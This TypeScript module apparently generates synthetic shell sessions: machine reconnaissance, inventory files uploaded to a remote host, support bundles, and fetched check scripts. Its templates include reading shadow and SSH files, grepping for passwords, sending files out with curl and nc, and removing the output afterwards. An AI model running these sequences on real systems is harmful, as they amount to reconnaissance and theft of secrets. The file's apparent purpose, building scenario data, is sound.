import { fetchTo, link, maybe, remote, root, workFile, write } from '../attack/ways.ts';
import type { Activity } from '../scenario.ts';

const FACTS = [
  'id',
  'whoami',
  'uname -a',
  'hostname',
  'cat /etc/os-release',
  'cat /etc/passwd',
  'ps aux',
  'df -h',
  'free -m',
  'ip addr',
  'ip route',
  'ss -tlnp',
  'env',
  'mount',
  'crontab -l',
  'ls -la /home',
  'cat /etc/hosts',
  'lscpu',
  'uptime',
  'last -n 10',
  'dpkg -l',
  'cat /proc/version',
  'ls -la /etc/cron.d',
  'w',
  'getent group',
  'cat /etc/resolv.conf',
  'ulimit -a',
  'lsblk',
  'ls /opt /srv',
] as const;

/** Somebody new on a machine finds out what it is and what is on it. */
const newcomer: Activity = {
  name: 'newcomer-looks-about',
  kind: 'interactive',
  as: 'either',
  needs: ['tree', 'lsof', 'file', 'less', 'sudo'],
  lines: (draw, place) => [
    ...draw
      .some(FACTS, draw.int(2, 5))
      .map((one) => (draw.chance(0.4) ? `${one} | head -${draw.int(3, 20)}` : one)),
    ...draw.some(
      [
        'sudo -n -l',
        'ls -la ~; cat ~/.bashrc | head -5',
        'cat ~/.bash_history | tail -5',
        'cat ~/.ssh/config ~/.ssh/authorized_keys 2>/dev/null',
        'ls -la /home/*/.ssh 2>/dev/null',
        'find / -maxdepth 2 -name "*.conf" -readable 2>/dev/null | head',
        'find /usr/bin /usr/sbin /usr/local -perm -4000 2>/dev/null',
        'find /opt /srv /var/www -type f 2>/dev/null | head -20',
        'for c in docker gcc python3 perl nc curl wget nmap; do command -v $c; done',
        'tree -L 2 /opt 2>/dev/null | head -20',
        'grep -rn password /opt 2>/dev/null | head -4',
        'cat /opt/*/config* 2>/dev/null | head',
        'file /bin/ls /opt/*/bin/* | head -4',
        'ls -lt /tmp /var/tmp | head; ls -la /dev/shm',
        'cat /proc/self/status | head -8; cat /proc/1/cmdline | tr "\\0" " "; ls -la /.dockerenv 2>/dev/null',
        "getent passwd | awk -F: '$7 ~ /sh$/ {print $1}'",
        `ls -la /var/spool/cron/crontabs /etc/cron.* 2>/dev/null | head -20`,
        root(place, 'tail -5 /var/log/auth.log'),
        'echo $PATH; echo $SHELL; type ls; alias',
        `ls -R ${place.home} | head -20; less ${place.home}/notes.txt | head -3`,
      ],
      draw.int(3, 8),
    ),
  ],
};

/** Facts of the machine are gathered in a file, for the list of all machines. */
const inventory: Activity = {
  name: 'facts-for-inventory',
  kind: 'administration',
  as: 'either',
  needs: ['curl', 'wget', 'python3', 'perl', 'nc', 'tar'],
  lines: (draw, place) => {
    const out = workFile(draw, place, draw.pick(['.txt', '', '.log', '.json']));
    const script = workFile(draw, place, draw.pick(['.sh', '.py']));
    const facts = draw.some(FACTS, draw.int(4, 10));
    const body = script.endsWith('.py')
      ? `import json, subprocess\nfacts = {c: subprocess.run(c, shell=True, capture_output=True, text=True).stdout for c in ${JSON.stringify(facts)}}\njson.dump(facts, open("${out}", "w"))`
      : `#!/bin/bash\n{\n${facts.join('\n')}\n} > ${out} 2>&1`;
    const { host, port } = remote(draw, place);
    return [
      ...draw.pick([
        [write(draw, script, body), `${script.endsWith('.py') ? 'python3' : 'bash'} ${script}`],
        [`(${facts.join('; ')}) > ${out} 2>&1`],
        [
          `for c in ${facts
            .slice(0, 6)
            .map((one) => `"${one}"`)
            .join(' ')}; do echo "== $c"; $c; done > ${out} 2>&1`,
        ],
        facts.slice(0, 5).map((one) => `${one} >> ${out} 2>&1`),
      ]),
      ...maybe(draw, 0.6, draw.pick([`wc ${out}`, `head -5 ${out}`, `ls -l ${out}`])),
      ...maybe(
        draw,
        0.7,
        draw.pick([
          `curl -s -T ${out} http://${host}:${port}/inventory/$(hostname)`,
          `curl -s --data-binary @${out} http://${host}:${port}/hosts > /dev/null`,
          `timeout 10 nc -q 1 ${host} ${port} < ${out} > /dev/null`,
          `gzip -c ${out} | curl -s -F f=@- http://${host}:${port}/`,
          `python3 -c "import urllib.request as u; u.urlopen('http://${host}:${port}/', open('${out}','rb').read())"`,
          `cp ${out} /var/tmp/`,
        ]),
      ),
      ...maybe(draw, 0.6, draw.pick([`rm -f ${out} ${script}`, `shred -u ${out}`])),
    ];
  },
};

/** Everything that support asked for is packed: settings, logs, processes. */
const bundle: Activity = {
  name: 'bundle-for-support',
  kind: 'administration',
  as: 'either',
  needs: ['tar', 'curl', 'ss', 'sudo', 'gzip'],
  lines: (draw, place) => {
    const folder = `${draw.pick(['/tmp', '/var/tmp', place.home])}/${draw.pick(['support', 'report', 'diag'])}-${draw.word()}`;
    const pack = `${folder}.${draw.pick(['tar.gz', 'tgz'])}`;
    return [
      `mkdir -p ${folder}`,
      ...draw.some(
        [
          `${root(place, 'cp -r /var/log/nginx')} ${folder}/ 2>/dev/null`,
          `${root(place, 'tail -100 /var/log/syslog')} > ${folder}/syslog`,
          `${root(place, 'tail -100 /var/log/auth.log')} > ${folder}/auth`,
          `ps auxf > ${folder}/ps.txt; ss -tanp > ${folder}/ss.txt 2>/dev/null`,
          `cp /etc/hosts /etc/fstab /etc/passwd ${folder}/ 2>/dev/null`,
          `${root(place, 'cp -r /opt')} ${folder}/ 2>/dev/null`,
          `env > ${folder}/env; dpkg -l > ${folder}/packages`,
          `for f in version cpuinfo meminfo mounts loadavg; do cat /proc/$f > ${folder}/$f; done`,
          `sed -i 's/password.*/password=removed/' ${folder}/* 2>/dev/null`,
          `${root(place, 'sysctl -a')} 2>/dev/null | head -200 > ${folder}/sysctl`,
        ],
        draw.int(3, 6),
      ),
      `tar czf ${pack} -C $(dirname ${folder}) $(basename ${folder}) 2>/dev/null; ls -l ${pack}`,
      ...maybe(
        draw,
        0.6,
        draw.pick([
          `curl -s -F file=@${pack} ${link(draw, place, '')}`,
          `curl -s -T ${pack} ${link(draw, place, '')}`,
        ]),
      ),
      root(place, `rm -rf ${folder}${draw.pick(['', ` ${pack}`])}`),
    ];
  },
};

/** A list of checks of how well a machine is set up is fetched and run. */
const checks: Activity = {
  name: 'checks-of-settings',
  kind: 'administration',
  as: 'either',
  needs: ['curl', 'wget', 'python3', 'perl', 'sudo', 'getcap'],
  lines: (draw, place) => {
    const path = workFile(draw, place, '.sh');
    const parts = draw.some(
      [
        'find /usr/bin /usr/sbin -perm -4000 -type f | wc -l',
        'grep -cE "^[^:]+::" /etc/shadow 2>/dev/null',
        "awk -F: '$3 == 0 {print $1}' /etc/passwd",
        'stat -c "%a %n" /etc/passwd /etc/shadow /etc/sudoers 2>/dev/null',
        'getcap -r /usr/bin 2>/dev/null',
        'ls -la /etc/cron.* /var/spool/cron 2>/dev/null | wc -l',
        'grep -h PermitRootLogin /etc/ssh/sshd_config',
        'sysctl -n kernel.randomize_va_space fs.suid_dumpable 2>/dev/null',
        'find /tmp /var/tmp /dev/shm -type f -perm -u+x 2>/dev/null',
        'ss -tln | wc -l',
        'for u in /home/*; do ls -la $u/.ssh 2>/dev/null; done',
        'find /etc -maxdepth 1 -perm -o+w -type f',
        'cat /proc/sys/kernel/yama/ptrace_scope /proc/sys/kernel/dmesg_restrict 2>/dev/null',
      ],
      draw.int(4, 9),
    );
    return [
      ...(draw.chance(0.3)
        ? [fetchTo(draw, link(draw, place, '.sh'), path)]
        : [write(draw, path, `#!/bin/bash\n${parts.map((one) => `echo "--"; ${one}`).join('\n')}`)]),
      `chmod ${draw.pick(['+x', '755', '700'])} ${path}`,
      draw.pick([
        path,
        root(place, path),
        `bash ${path} | tee ${path}.out | tail -20`,
        `${root(place, `bash ${path}`)} > ${path}.out 2>&1; wc -l ${path}.out`,
      ]),
      ...maybe(
        draw,
        0.5,
        draw.pick(['dmesg 2>/dev/null | tail -2', `grep -c . ${path}.out`, 'sudo -n -l | tail -2']),
      ),
      ...maybe(draw, 0.6, `rm -f ${path}*`),
    ];
  },
};

export const ORIENTATION: readonly Activity[] = [newcomer, inventory, bundle, checks];
